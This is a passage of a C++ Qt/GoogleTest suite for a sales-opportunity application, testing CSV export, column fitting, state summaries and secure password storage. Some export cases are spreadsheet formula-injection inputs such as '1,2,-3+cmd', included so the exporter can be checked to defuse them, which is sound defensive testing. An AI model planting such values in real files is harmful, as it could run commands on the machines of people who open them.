        {"1,2,-3+cmd", "\"'1,2,-3+cmd\""},
        {"a,,\tb", "\"'a,,\tb\""},
        {"línea 1\nlínea 2", "\"línea 1\nlínea 2\""},
        {"fin\r", "\"fin\r\""},
        {"dice \"sí\"", "\"dice \"\"sí\"\"\""},
        {"a;b", "a;b"},
        {"a,b", "\"a,b\""},
        {"-1234.50", "-1234.50"},
        {"-$1,234.50", "\"-$1,234.50\""},
        {"+7", "+7"},
        {"a=b", "a=b"},
        {"Pérez, Ana", "\"Pérez, Ana\""},
        {"1,-5, -$2.50", "\"1,-5, -$2.50\""},
        {larga, larga},
    };
    for (const auto &[celda, exportada] : casos) {
        lista.replaceContents({"=Folio"}, {{QString(), {celda}}});
        // the header, a formula itself, goes out as text too
        EXPECT_EQ(textoCsv(lista), "'=Folio\r\n" + exportada + "\r\n") << celda.left(40).toStdString();
    }
    EXPECT_EQ(textoTabulado(lista), "=Folio\n" + larga + "\n"); // the copy takes the long cell whole too

    lista.resize(580, 200); // the figures, the dates and the folios fit beside the shrunk texts
    lista.show();
    const QString largo = "Migración a la nube — Distribuidora La Paz, segunda etapa";
    const QString lejano(30, 'n'); // in the first row not measured
    std::vector<Kit::ListRow> filas(Servicios::AjusteLista::FilasMedidas + 1,
                                    {QString(), {"OP-2026-000001", largo, largo, "04/03/2026", "$999,477,930.17"}});
    filas.front().texts[0] = "OP-1";
    filas.back().texts[0] = lejano;
    lista.replaceContents({"Folio", "Descripción", "Organización", "Cierre estimado", "Monto"}, std::move(filas));

    Servicios::AjusteLista().AjustaAlAncho(lista);

    const QHeaderView &encabezado = *lista.header();
    const QFontMetrics medida(lista.font());
    EXPECT_LE(encabezado.length(), lista.viewport()->width());
    EXPECT_GE(encabezado.sectionSize(0), medida.horizontalAdvance("OP-2026-000001"));
    EXPECT_LT(encabezado.sectionSize(0), medida.horizontalAdvance(lejano));
    EXPECT_GE(encabezado.sectionSize(3), QFontMetrics(encabezado.font()).horizontalAdvance("Cierre estimado"));
    for (const int columna : {1, 2}) {
        EXPECT_LT(encabezado.sectionSize(columna), medida.horizontalAdvance(largo)) << columna;
        EXPECT_GE(encabezado.sectionSize(columna), medida.averageCharWidth() * 10) << columna;
    }

    // Bold rows are measured in bold, squeezed or not: a large font makes the difference plain.
    QFont grande = lista.font();
    grande.setPointSize(28);
    lista.setFont(grande);
    lista.replaceContents({"Folio", "Descripción", "Organización"},
                          std::vector<Kit::ListRow>(3, {QString(), {"OP-2026-000001", largo, largo}}));
    lista.setRowLooks({Kit::ListView::RowLook{std::nullopt, true}});
    Servicios::AjusteLista().AjustaAlAncho(lista);
    grande.setBold(true);
    const QFontMetrics negrita(grande);
    const int margen = 10; // more than the cell's own, less than the fit's
    EXPECT_GE(encabezado.sectionSize(0), negrita.horizontalAdvance("OP-2026-000001") + margen);
    for (const int columna : {1, 2})
        EXPECT_GE(encabezado.sectionSize(columna), negrita.averageCharWidth() * 10 + margen) << columna;
}

const QColor Rojo(200, 0, 0);
const QColor Azul(0, 0, 200);
const QColor Negro(0, 0, 0);

// The summary of rows "state|amount", with "|R" or "|A" after them for a red or blue look:
// "State: count, amount" a state in the summary's order (the amount only when there are
// amounts; " rojo" or " azul" after the state for its colour), then the totals.
QString resume(const QStringList &filas, const std::optional<QStringList> &orden, const QStringList &encabezados)
{
    std::vector<Servicios::FilaParaResumen> leidas;
    for (const QString &fila : filas) {
        const QStringList celdas = fila.split(QLatin1Char('|'));
        std::optional<QColor> color;
        if (celdas.size() > 2)
            color = celdas[2] == QLatin1String("R") ? Rojo : Azul;
        leidas.push_back({{"OP", celdas[0], celdas.value(1)}, color});
    }
    const ResumenEstados resumen = Servicios::resumePorEstado(encabezados, leidas, Negro, orden);
    QStringList estados;
    for (const Servicios::EstadoResumido &estado : resumen.estados) {
        const QString color = estado.color == Negro  ? ""
                              : estado.color == Rojo ? " rojo"
                              : estado.color == Azul ? " azul"
                                                     : " ?";
        estados << QStringLiteral("%1%2: %3").arg(estado.estado, color).arg(estado.cantidad)
                       + (resumen.conMontos ? QStringLiteral(", %1").arg(estado.monto, 0, 'f', 2) : QString());
    }
    QString total = QStringLiteral("; total %1").arg(resumen.cantidadTotal());
    total += resumen.conMontos ? QStringLiteral(", %1").arg(resumen.montoTotal(), 0, 'f', 2) : ", sin montos";
    if (resumen.montosSinSumar > 0)
        total += QStringLiteral(", %1 sin sumar").arg(resumen.montosSinSumar);
    return estados.join(" | ") + total;
}

// A file system that takes only part of the export (here a limit on the size of files, as a
// nearly full disk would) leaves the file there was as it was, and says why.
TEST(AccionesLista, anExportTheDiskCannotTakeWholeLeavesTheOldFile)
{
    const QTemporaryDir carpeta;
    const QString ruta = carpeta.filePath("lista.csv");
    QFile anterior(ruta);
    ASSERT_TRUE(anterior.open(QIODevice::WriteOnly) && anterior.write("anterior") == 8);
    anterior.close();
    Kit::ListView lista;
    lista.replaceContents({"Folio"}, std::vector<Kit::ListRow>(2000, {QString(), {QString(20, 'x')}}));
    rlimit limite{};
    getrlimit(RLIMIT_FSIZE, &limite);
    const rlimit reducido{16384, limite.rlim_max};
    const auto senal = std::signal(SIGXFSZ, SIG_IGN); // a write past the limit fails instead of ending the test
    setrlimit(RLIMIT_FSIZE, &reducido);
    QString dicho;
    try {
        Servicios::AccionesLista::guardaCsv(lista, ruta);
    } catch (...) {
        dicho = Runtime::toRuntimeError(std::current_exception()).description();
    }
    setrlimit(RLIMIT_FSIZE, &limite);
    std::signal(SIGXFSZ, senal);
    EXPECT_TRUE(dicho.contains("sólo se escribieron")) << dicho.toStdString();
    ASSERT_TRUE(anterior.open(QIODevice::ReadOnly));
    EXPECT_EQ(anterior.readAll().left(20), "anterior");
}

// Amounts are read as a list writes them. The states an opportunity goes through come in that
// order; the ones the state table does not know, alphabetically (in Spanish: lower case beside
// upper case, É beside E, ñ after n); "(Sin estado)" last. Without the order (it could not be
// read), most opportunities first.
TEST(ResumenEstados, readsAmountsAsWrittenAndGroupsByStateInTheOrderOfTheStages)
{
    // "text=amount"
    const QStringList montos = {
        "1234.5=1234.5",  "250000.00=250000",        "1,234.50=1234.5",   "$1,234,567.89=1234567.89", " $ 980 =980",
        "MXN 2,000=2000", "1.234.567,89=1234567.89", "1 234,50 €=1234.5", "1\u00A0234,50=1234.5",     "12,5=12.5",
        "1,250=1250",     "-$1,200.00=-1200",        "$-1,200.00=-1200",  "(1,200.00)=-1200"};
    for (const QString &monto : montos) {
        const std::optional<double> leido = Servicios::leeMonto(monto.section(QLatin1Char('='), 0, 0));
        ASSERT_TRUE(leido.has_value()) << monto.toStdString();
        EXPECT_DOUBLE_EQ(*leido, monto.section(QLatin1Char('='), 1).toDouble()) << monto.toStdString();
    }
    for (const QString texto : {"", "N/D", "$", "12,34,567", "1,234.567,89", "1.2.3", "--5", "5 pesos", "(-5)"})
        EXPECT_FALSE(Servicios::leeMonto(texto).has_value()) << texto.toStdString();

    const QStringList variados = {"Ganada", "Éxito", "Cierre", "calificada", "Ñandú",
                                  "Oferta", "Nube",  "Zeta",   "Zeta",       ""};
    const QStringList encabezados = {"Folio", "Estado", "Monto"};
    const struct
    {
        QStringList filas;
        QString resumen;
        QStringList encabezados = {"Folio", "Estado", "Monto"};
        std::optional<QStringList> orden = std::nullopt;
    } casos[] = {
        // Separators, signs and blanks around the state do not split a state.
        {{"Negociación|250000.00", "Propuesta enviada|$1,200.50", "Negociación|$ 49,999.50", " Negociación |10,000.50",
          "Propuesta enviada|800"},
         "Negociación: 3, 310000.00 | Propuesta enviada: 2, 2000.50; total 5, 312000.50"},
        // An amount that is no number is counted, not added.
        {{"Calificada|1,000.00", "Calificada|por definir", "Calificada|", "En espera|500"},
         "Calificada: 3, 1000.00 | En espera: 1, 500.00; total 4, 1500.00, 2 sin sumar"},
        // A column of words, or none headed as amounts: only counts.
        {{"Calificada|alto", "Calificada|bajo", "En espera|10"}, "Calificada: 2 | En espera: 1; total 3, sin montos"},
        {{"Calificada|1", "Calificada|2", "En espera|10"},
         "Calificada: 2 | En espera: 1; total 3, sin montos",
         {"Folio", "Estado", "Prioridad"}},
        // Headers are recognised whatever their letter case, accents and blanks.
        {{"Calificada|7.50"}, "Calificada: 1, 7.50; total 1, 7.50", {"Folio", "ESTÁDO ", "monto"}},
        // Each state takes the colour of most of its rows; on a tie, the first colour met.
        {{"Mayoría roja||A", "Mayoría roja||R", "Mayoría roja||R", "Empate||A", "Empate||R", "Sin aspecto",
          "Mayoría sin aspecto", "Mayoría sin aspecto||R", "Mayoría sin aspecto"},
         "Mayoría roja rojo: 3 | Mayoría sin aspecto: 3 | Empate azul: 2 | Sin aspecto: 1; total 9, sin montos"},
        {variados,
         "Zeta: 2 | Oferta: 1 | calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1"
         " | (Sin estado): 1; total 10, sin montos",
         encabezados, QStringList{"Zeta", "Oferta", "Calificada", "Perdida"}},
        {variados,
         "calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1 | Oferta: 1 | Zeta: 2"
         " | (Sin estado): 1; total 10, sin montos",
         encabezados, QStringList{}},
        {variados, // without the order
         "Zeta: 2 | (Sin estado): 1 | calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1"
         " | Oferta: 1; total 10, sin montos"},
        {{"Calificada|1"}, "; total 0, sin montos", {"Folio", "Estatus", "Monto"}}, // no state column
    };
    for (const auto &caso : casos) {
        SCOPED_TRACE(caso.resumen.toStdString());
        EXPECT_EQ(resume(caso.filas, caso.orden, caso.encabezados), caso.resumen);
    }
}

// The board's view of the opportunities, coloured by state as the board colours it; every
// amount `montoUnico` when one is given.
constexpr qint32 ColorNegociacion = 0x0060D0;
constexpr qint32 ColorProspeccion = 0x808080;

void llenaComoElTablero(Kit::ListView &lista, const QString &montoUnico = QString())
{
    const std::map<QString, Kit::ListView::RowLook> aspectos = {{"Negociación", {ColorNegociacion, true}},
                                                                {"Propuesta enviada", {0xC06000, false}},
                                                                {"Prospección", {ColorProspeccion, false}}};
    std::vector<Kit::ListRow> filas;
    std::vector<std::optional<Kit::ListView::RowLook>> looks;
    for (const QString fila :
         {"Negociación|250000.00", "Propuesta enviada|1200.50", "Negociación|49999.50", "Prospección|N/D",
          "Propuesta enviada|800.00", "Negociación|10000.50", "Prospección|5000.00"}) {
        const QStringList celdas = fila.split('|');
        filas.push_back({QString(),
                         {QStringLiteral("OP-%1").arg(filas.size() + 1), "Licencias ERP", celdas[0],
                          montoUnico.isEmpty() ? celdas[1] : montoUnico}});
        looks.push_back(aspectos.at(celdas[0]));
    }
    lista.replaceContents({"Folio", "Descripción", "Estado", "Monto"}, std::move(filas));
    lista.setRowLooks(looks);
}

// A list in a window with its menu of actions, on the session's database, whose state table
// keeps the board's states in the order of the pipeline.
class MenuDeLista : public ServiciosSql
{
protected:
    MenuDeLista()
    {
        base.ejecuta("INSERT INTO Estado_Oportunidad (Eo_Cve_Estado_Oportunidad, Eo_Descripcion) VALUES "
                     "('PRO', 'Prospección'), ('PRE', 'Propuesta enviada'), ('NEG', 'Negociación')");
        lista.setObjectName("lvOrdenes");
        lista.show();
    }

    QAction *accionResumen()
    {
        entradas.habilitaPara(&lista);
        return menu.findChild<QAction *>("accResumenEstados");
    }

    // Runs `revision` on the dialog the action opens, then closes it with Esc, as a user would.
    void revisaElDialogo(std::function<void(QDialog &)> revision)
    {
        bool cerradoConEsc = false;
        Pruebas::alAparecer("dlgResumenEstados", [&](QWidget &ventana) {
            auto &dialogo = static_cast<QDialog &>(ventana);
            revision(dialogo);
            QTest::keyClick(&dialogo, Qt::Key_Escape);
            cerradoConEsc = !dialogo.isVisible();
            if (!cerradoConEsc)
                dialogo.reject(); // so a failure does not leave the test waiting
        });
        EXPECT_TRUE(entradas.ejecuta(accionResumen(), lista));
        EXPECT_TRUE(cerradoConEsc);
    }

    Kit::ListView lista;
    QMenu menu;
    Servicios::EntradasDeLista entradas{menu};
};

// A reload keeps the columns as the user left them; another view brings its own layout, or
// fits the columns when it has none; coming back brings the first one's again. The file chosen
// holds the CSV in UTF-8 with a BOM. The CSV and the copy take the rows in the order shown, the
// columns as shown (moved, without hidden ones), texts quoted where the format needs it.
TEST_F(MenuDeLista, eachViewKeepsTheUsersLayoutAndExportingToCsvSavesTheFileInUtf8WithBom)
{
    const QString consulta = QStringLiteral("SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\","
                                            " Op_Monto AS \"Monto\" FROM Oportunidad");
    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto)"
                 " VALUES ('F-1', 'Licencias', 'V1', 10), ('F-2', 'Servidores', 'V1', 20)");
    const auto muestra = [&](const QString &vista) {
        lista.setLayoutKey(QStringLiteral("Pruebas/lvOrdenes/") + vista);
        EXPECT_TRUE(funciones.LlenaLista(consulta, lista, -1));
        return lista.header()->sectionSize(1);
    };
    const int ajustada = muestra("TODOS");
    lista.header()->resizeSection(1, ajustada + 77);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77); // a reload keeps what the user did
    lista.saveLayout();
    EXPECT_EQ(muestra("GANADAS"), ajustada);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77);
    lista.header()->resizeSection(1, ajustada + 5);
    Servicios::AjusteLista().Ajusta(lista); // what a form does on each resize keeps nothing
    EXPECT_EQ(muestra("GANADAS"), ajustada);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77);
    Runtime::removeSettings("Pruebas", "lvOrdenes");

    lista.replaceContents({"Folio", "Descripción", "Monto"}, {{QString(), {"F-1", "Uno; dos", "10.00"}},
                                                              {QString(), {"F-2", "Dice \"sí\"", "30.00"}},
                                                              {QString(), {"F-3", "Línea\nnueva\tcon tab", "20.00"}}});
    lista.setSortKey(2); // by amount text, descending
    lista.setSortOrder(Qt::DescendingOrder);
    lista.setSorted(true);
    QTemporaryDir carpeta;
    const QString ruta = carpeta.filePath("oportunidades.csv");
    Pruebas::alAparecer("mnuAccionLista", [](QWidget &ventana) {
        auto &menu = static_cast<QMenu &>(ventana);
        menu.setActiveAction(menu.findChild<QAction *>("accExportarCsv"));
        QTest::keyClick(&menu, Qt::Key_Return);
    });
    Pruebas::alAparecer("dlgExportarCsv", [ruta](QWidget &ventana) {
        auto &dialogo = static_cast<QFileDialog &>(ventana);
        EXPECT_TRUE(dialogo.testOption(QFileDialog::DontUseNativeDialog));
        dialogo.selectFile(ruta);
        QMetaObject::invokeMethod(&dialogo, "accept");
    });

    funciones.AccionLista(lista);

    QFile archivo(ruta);
    ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
    EXPECT_EQ(archivo.readAll(), "\xEF\xBB\xBF"
                                 "Folio,Descripción,Monto\r\n"
                                 "F-2,\"Dice \"\"sí\"\"\",30.00\r\n"
                                 "F-3,\"Línea\nnueva\tcon tab\",20.00\r\n"
                                 "F-1,Uno; dos,10.00\r\n");
    // As a program that splits at commas and honours quotes reads it: the cells as shown.
    QProcess python;
    python.start("python3", {"-c",
                             "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
                             "encoding='utf-8-sig', newline='')))))",
                             ruta});
    ASSERT_TRUE(python.waitForFinished(30000));
    QList<QStringList> celdas;
    for (const QVariant &fila : QJsonDocument::fromJson(python.readAllStandardOutput()).toVariant().toList())
        celdas << fila.toStringList();
    EXPECT_EQ(celdas, (QList<QStringList>{{"Folio", "Descripción", "Monto"},
                                          {"F-2", "Dice \"sí\"", "30.00"},
                                          {"F-3", "Línea\nnueva\tcon tab", "20.00"},
                                          {"F-1", "Uno; dos", "10.00"}}));
    EXPECT_EQ(textoTabulado(lista), "Folio\tDescripción\tMonto\n"
                                    "F-2\tDice \"sí\"\t30.00\n"
                                    "F-3\tLínea nueva con tab\t20.00\n"
                                    "F-1\tUno; dos\t10.00\n");
    lista.header()->moveSection(2, 0); // Monto first
    lista.header()->hideSection(1);    // no Descripción
    EXPECT_EQ(textoCsv(lista), "Monto,Folio\r\n30.00,F-2\r\n20.00,F-3\r\n10.00,F-1\r\n");
    EXPECT_EQ(textoTabulado(lista), "Monto\tFolio\n30.00\tF-2\n20.00\tF-3\n10.00\tF-1\n");
}

// The table by state with its total, which the dialog copies; the chart, which tells its
// figures by count or by amount to a screen reader, as every control says what it is. Amounts
// that are all words leave the amount chart disabled, saying why; a list without a state column
// offers the summary disabled, saying why. State keys that are all numbers give the order of
// the stages.
TEST_F(MenuDeLista, showsTheTableByStateCopiesItAndChartsItOrSaysWhyItCannot)
{
    llenaComoElTablero(lista);
    const QStringList esperadas = {"Estado | Oportunidades | Monto | % del monto",
                                   "Prospección | 2 | $5,000.00 | 1.6 %", "Propuesta enviada | 2 | $2,000.50 | 0.6 %",
                                   "Negociación | 3 | $310,000.00 | 97.8 %", "Total | 7 | $317,000.50 | 100.0 %"};
    QGuiApplication::clipboard()->clear();
    revisaElDialogo([&esperadas](QDialog &dialogo) {
        EXPECT_TRUE(dialogo.isModal());
        const auto *tabla = dialogo.findChild<QTableWidget *>("grdResumen");
        EXPECT_TRUE(tabla->item(3, 0)->font().bold());
        EXPECT_EQ(tabla->item(1, 2)->textAlignment(), int(Qt::AlignRight | Qt::AlignVCenter));
        EXPECT_EQ(tabla->item(2, 0)->data(Qt::DecorationRole).value<QColor>(), Runtime::toQColor(ColorNegociacion));
        EXPECT_EQ(tabla->item(0, 0)->data(Qt::DecorationRole).value<QColor>(), Runtime::toQColor(ColorProspeccion));
        EXPECT_TRUE(dialogo.findChild<QLabel *>("lbAviso")->text().startsWith("Una oportunidad no tiene su monto"));
        Pruebas::pulsa(dialogo, "cmdCopiar");
        EXPECT_TRUE(dialogo.isVisible());

        auto *grafica = dialogo.findChild<QWidget *>("picGrafica");
        EXPECT_TRUE(dialogo.findChild<QAbstractButton *>("optCantidad")->isChecked());
        EXPECT_EQ(grafica->accessibleDescription(), "Prospección: 2; Propuesta enviada: 2; Negociación: 3");
        dialogo.findChild<QAbstractButton *>("optMonto")->click();
        EXPECT_EQ(grafica->accessibleDescription(),
                  "Prospección: $5,000.00; Propuesta enviada: $2,000.50; Negociación: $310,000.00");
        EXPECT_TRUE(grafica->accessibleName().contains("monto"));
        for (const QWidget *control : dialogo.findChildren<QWidget *>()) {
            if (control->isVisible() && (control->focusPolicy() != Qt::NoFocus || control == grafica)) {
                EXPECT_FALSE(control->accessibleName().isEmpty()) << control->objectName().toStdString();
            }
        }
    });

    EXPECT_EQ(QGuiApplication::clipboard()->text(), esperadas.join('\n').replace(" | ", "\t") + "\n");

    llenaComoElTablero(lista, "pendiente");
    revisaElDialogo([](QDialog &dialogo) {
        auto *porMonto = dialogo.findChild<QAbstractButton *>("optMonto");
        EXPECT_TRUE(!porMonto->isEnabled() && !porMonto->toolTip().isEmpty());
        Pruebas::pulsa(dialogo, "cmdCopiar");
        EXPECT_TRUE(QGuiApplication::clipboard()->text().endsWith("\nTotal\t7\t\t\n"));
        Pruebas::pulsa(dialogo, "cmdCerrar");
        EXPECT_FALSE(dialogo.isVisible());
    });

    lista.replaceContents({"Folio", "Monto"}, {{QString(), {"OP-1", "10.00"}}});
    const QAction *resumen = accionResumen();
    EXPECT_TRUE(!resumen->isEnabled() && resumen->toolTip().contains("«Estado»") && menu.toolTipsVisible());

    base.ejecuta("DELETE FROM Estado_Oportunidad");
    base.ejecuta("INSERT INTO Estado_Oportunidad (Eo_Cve_Estado_Oportunidad, Eo_Descripcion) VALUES "
                 "('10', 'Calificada'), ('2', 'Prospección'), ('30', 'Negociación')");
    EXPECT_EQ(Servicios::ordenDeEstados(*base.conexion()), (QStringList{"Prospección", "Calificada", "Negociación"}));
}

constexpr int ErrorDeArchivo = 75;
constexpr auto soloDueno = QFile::ReadOwner | QFile::WriteOwner;

// Each test gets a key file of its own, in a folder that starts without one.
class Contrasenas : public ::testing::Test
{
protected:
    Contrasenas() { qputenv("TEQVARO_CLAVE", rutaClave().toLocal8Bit()); }
    ~Contrasenas() override { qunsetenv("TEQVARO_CLAVE"); }

    QString rutaClave() const { return carpeta.filePath("sub/clave.bin"); }

    bool escribeClave(const QByteArray &bytes, QFile::Permissions permisos = soloDueno) const
    {
        QDir().mkpath(QFileInfo(rutaClave()).path());
        QFile clave(rutaClave());
        return clave.open(QIODevice::WriteOnly | QIODevice::Truncate) && clave.write(bytes) == bytes.size()
               && clave.setPermissions(permisos);
    }

    // A password as the program kept it before: enciphered under the key file's bytes.
    QString cifradaComoAntes(const QString &clara) const
    {
        QFile archivo(rutaClave());
        archivo.open(QIODevice::ReadOnly);
        const QByteArray clave = archivo.readAll();
        const QByteArray texto = clara.toUtf8();
        QByteArray guardado(qsizetype(crypto_secretbox_NONCEBYTES + crypto_secretbox_MACBYTES) + texto.size(), '\0');
        auto *nonce = reinterpret_cast<unsigned char *>(guardado.data());
        randombytes_buf(nonce, crypto_secretbox_NONCEBYTES);
        crypto_secretbox_easy(nonce + crypto_secretbox_NONCEBYTES,
                              reinterpret_cast<const unsigned char *>(texto.constData()), quint64(texto.size()), nonce,
                              reinterpret_cast<const unsigned char *>(clave.constData()));
        return "sb1:" + QString::fromLatin1(guardado.toBase64());
    }

    QTemporaryDir carpeta;
};

// An old text deciphers under its key; an altered or foreign one raises error 5. A key that
// cannot be used is reported with its path and reason. The key must be the user's own file: one
// another account owns is refused even to root (that account could have chosen it), and a link
// to nothing is named as such.
TEST_F(Contrasenas, anOldTextDeciphersUnderItsKeyAndAKeyThatCannotBeUsedIsRefusedSayingWhy)
{
    ASSERT_TRUE(escribeClave(QByteArray(32, 'k')));
    const QString guardada = cifradaComoAntes("Contraseña con ñ");
    EXPECT_EQ(Servicios::Cifrado().Descifra(guardada), "Contraseña con ñ");
    QString alterada = guardada;
    QChar &cambiada = alterada[alterada.size() - 6];
    cambiada = cambiada == u'A' ? u'B' : u'A';
    for (const QString &mala :
         QStringList{alterada, "secreto", "", "sb1:", "sb1:%%%no base64%%%", "sb1:AAAA", "sb2:" + guardada.mid(4)})
        EXPECT_EQ(errorDe([&] { Servicios::Cifrado().Descifra(mala); }), InvalidCall) << mala.toStdString();
    ASSERT_TRUE(escribeClave(QByteArray(32, 'o'))); // another installation's key
    EXPECT_EQ(errorDe([&] { Servicios::Cifrado().Descifra(guardada); }), InvalidCall);
    QFile::remove(rutaClave());

    const auto escribe = [this](qsizetype tamano, QFile::Permissions permisos) {
        return [this, tamano, permisos] { return escribeClave(QByteArray(tamano, 'k'), permisos); };
    };
    const std::pair<const char *, std::function<bool()>> casos[] = {
        {"no existe", [] { return true; }},
        {"otros usuarios", escribe(32, soloDueno | QFile::ReadGroup | QFile::ReadOther)},
        {"otros usuarios", escribe(32, soloDueno | QFile::WriteGroup)},
        {"tamaño", escribe(31, soloDueno)},
        {"tamaño", escribe(64, soloDueno)},
        {"es un enlace a",
         [this] {
             return QDir().mkpath(QFileInfo(rutaClave()).path())
                    && QFile::link(carpeta.filePath("nada.bin"), rutaClave());
         }},
        {"pertenece a otro usuario", // changing a file's owner takes root
         [this] {
             return escribeClave(QByteArray(32, 'k'))
                    && ::chown(QFile::encodeName(rutaClave()).constData(), 65534, 65534) == 0;
         }},
    };
    for (const auto &[motivo, prepara] : casos) {
        SCOPED_TRACE(motivo);
        if (!prepara())
            continue;
        const auto usa = [] { Servicios::Cifrado(); };
        EXPECT_EQ(errorDe(usa), ErrorDeArchivo);
        const QString dicho = Pruebas::descripcionDe(usa);
        EXPECT_TRUE(dicho.contains(rutaClave()) && dicho.contains(QString::fromUtf8(motivo))) << dicho.toStdString();
        QFile::remove(rutaClave());
    }
    EXPECT_FALSE(QFile::exists(carpeta.filePath("nada.bin"))); // the link was not followed
}

// A password is stored as a hash nobody reads back. One nobody can type back, a short one or
// one past the limit is refused for salespeople and operators alike, and the one stored
// before stays.
TEST_F(Contrasenas, aPasswordIsStoredAsAHashAndAShortBlankOrOverlongOneIsRefused)
{
    Pruebas::BaseDePrueba base;
    base.ejecuta("INSERT INTO Vendedor (Vn_Cve_Vendedor, Vn_Descripcion) VALUES ('V''1', 'Vera')");
    base.ejecuta("INSERT INTO Operador (Ope_Cve_Operador, Ope_Nombre) VALUES ('OP', 'Olga')");
    Servicios::ponContrasena("V'1", "Clave'1 larga");
    Servicios::ponContrasenaOperador("OP", "Antes de todo");
    const auto guardadas = [&base] {
        return base.valor("SELECT Vc_Huella FROM Vendedor_Contrasena") + '|'
               + base.valor("SELECT Oc_Huella FROM Operador_Contrasena");
    };
    EXPECT_FALSE(guardadas().contains("Clave") || guardadas().contains("Antes"));
    EXPECT_EQ(base.cuenta("Vendedor", "Vn_Password IS NOT NULL"), 0);
    EXPECT_EQ(errorDe([] { Servicios::ponContrasena("NADIE", "Una muy buena"); }), InvalidCall);

    // The limits count characters, not bytes.
    const QStringList rechazadas = {"", "   ", QString(12, ' '), "Nueve1234", QString(257, 'a')};
    for (const QString &contrasena : rechazadas + QStringList{"Diez123456", QString(256, u'ñ'), " con espacios "}) {
        const bool aceptada = !rechazadas.contains(contrasena);
        SCOPED_TRACE(contrasena.left(20).toStdString());
        const QString antes = guardadas();
        EXPECT_EQ(errorDe([&] { Servicios::ponContrasena("V'1", contrasena); }), aceptada ? 0 : InvalidCall);
        EXPECT_EQ(errorDe([&] { Servicios::ponContrasenaOperador("OP", contrasena); }), aceptada ? 0 : InvalidCall);
        EXPECT_EQ(guardadas() == antes, !aceptada);
    }
    EXPECT_EQ(Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V'1", " con espacios "),
              RevisionDeContrasena::Coincide);
}

// Passwords kept enciphered become hashes on the upgrade: those this desk's key deciphers
// still open the login, the others ask for a new one; none stays in Vendedor.
TEST_F(Contrasenas, theUpgradeHashesWhatTheKeyDeciphersAndAsksANewPasswordForTheRest)
{
    ASSERT_TRUE(escribeClave(QByteArray(32, 'k')));
    Pruebas::BaseDePrueba base(3);
    base.ejecuta("INSERT INTO Vendedor (Vn_Cve_Vendedor, Vn_Descripcion, Vn_Password) VALUES ('V1', 'Uno', '"
                 + cifradaComoAntes("Secreta1") + "'), ('V2', 'Dos', 'sb1:AAAA'), ('V3', 'Tres', NULL)");
    Datos::actualizaEsquema(*base.conexion());

    const auto revisa = [&base](const QString &codigo, const QString &clara) {
        return Servicios::revisaContrasenaDeVendedor(*base.conexion(), codigo, clara);
    };
    EXPECT_EQ(revisa("V1", "Secreta1"), RevisionDeContrasena::Coincide);
    EXPECT_EQ(revisa("V2", "Secreta1"), RevisionDeContrasena::PideNueva);
    EXPECT_EQ(revisa("V3", ""), RevisionDeContrasena::NoCoincide);
    EXPECT_EQ(revisa("NADIE", "Secreta1"), RevisionDeContrasena::NoCoincide);
    EXPECT_EQ(base.cuenta("Vendedor", "Vn_Password IS NOT NULL"), 0);
    Servicios::ponContrasena("V2", "Nueva contraseña");
    EXPECT_EQ(revisa("V2", "Nueva contraseña"), RevisionDeContrasena::Coincide);
}

// The server counts each failure before its outcome can be read, writes it to the audit log,
// and forgets the count on a success; a try inside a transaction tells nothing.
using ContrasenasPostgreSQL = Contrasenas;

TEST_F(ContrasenasPostgreSQL, theServerCountsEachFailureBeforeItsOutcomeCanBeRead)
{
    Pruebas::BaseDePrueba base;
    base.ejecuta("INSERT INTO Vendedor (Vn_Cve_Vendedor, Vn_Descripcion) VALUES ('V1', 'Uno')");
    Servicios::ponContrasena("V1", "Secreta123");
    for (int vez = 0; vez < 3; ++vez)
        EXPECT_EQ(Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V1", "mala"),
                  RevisionDeContrasena::NoCoincide);
    EXPECT_EQ(base.valor("SELECT Vc_Fallos FROM Vendedor_Contrasena"), "3");
    EXPECT_EQ(base.cuenta("Bitacora", "Bi_Entidad = 'VENDEDOR' AND Bi_Clave = 'V1'"), 3);

    base.ejecuta("BEGIN");
    const QString intento = base.valor("SELECT teqvaro_intenta_vendedor('V1', 'Secreta123')");
    EXPECT_NE(errorDe([&] { base.valor("SELECT teqvaro_resultado_vendedor('" + intento + "')"); }), 0);
    base.ejecuta("ROLLBACK");

    EXPECT_EQ(Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V1", "Secreta123"),
              RevisionDeContrasena::Coincide);
    EXPECT_EQ(base.valor("SELECT Vc_Fallos FROM Vendedor_Contrasena"), "0");

    // From the fifth failure in a row, the server waits before it checks.
    base.ejecuta("UPDATE Vendedor_Contrasena SET Vc_Fallos = 5");
    QElapsedTimer reloj;
    reloj.start();
    Servicios::revisaContrasenaDeVendedor(*base.conexion(), "V1", "mala");
    EXPECT_GE(reloj.elapsed(), 1000);
}

// An administrator sets an operator's password while another's setting of it is not yet
// committed: this one waits, then replaces what the other stored.
TEST_F(ContrasenasPostgreSQL, aPasswordSetWhileAnotherIsBeingSetReplacesIt)
{
    Pruebas::BaseDePrueba base;
    base.ejecuta("INSERT INTO Operador (Ope_Cve_Operador, Ope_Nombre) VALUES ('OP', 'Olga')");
    Servicios::ponContrasenaOperador("OP", "Antes de todo");
    std::promise<void> abierta;
    std::thread laOtra([&, direccion = base.direccion()] {
        Ado::Connection otra(direccion); // a connection belongs to its thread
        otra.Execute("BEGIN");
        otra.Execute("DELETE FROM Operador_Contrasena");
        otra.Execute("INSERT INTO Operador_Contrasena VALUES ('OP', 'de la otra')");
        abierta.set_value();
        std::this_thread::sleep_for(std::chrono::milliseconds(300));
        otra.Execute("COMMIT");
    });
    abierta.get_future().wait();
    EXPECT_EQ(errorDe([] { Servicios::ponContrasenaOperador("OP", "La de ahora 1"); }), 0);
    laOtra.join();
    EXPECT_TRUE(Servicios::HuellaDeContrasena::coincide(Servicios::leeOperador("OP")->huella, "La de ahora 1"));
}

} // namespace
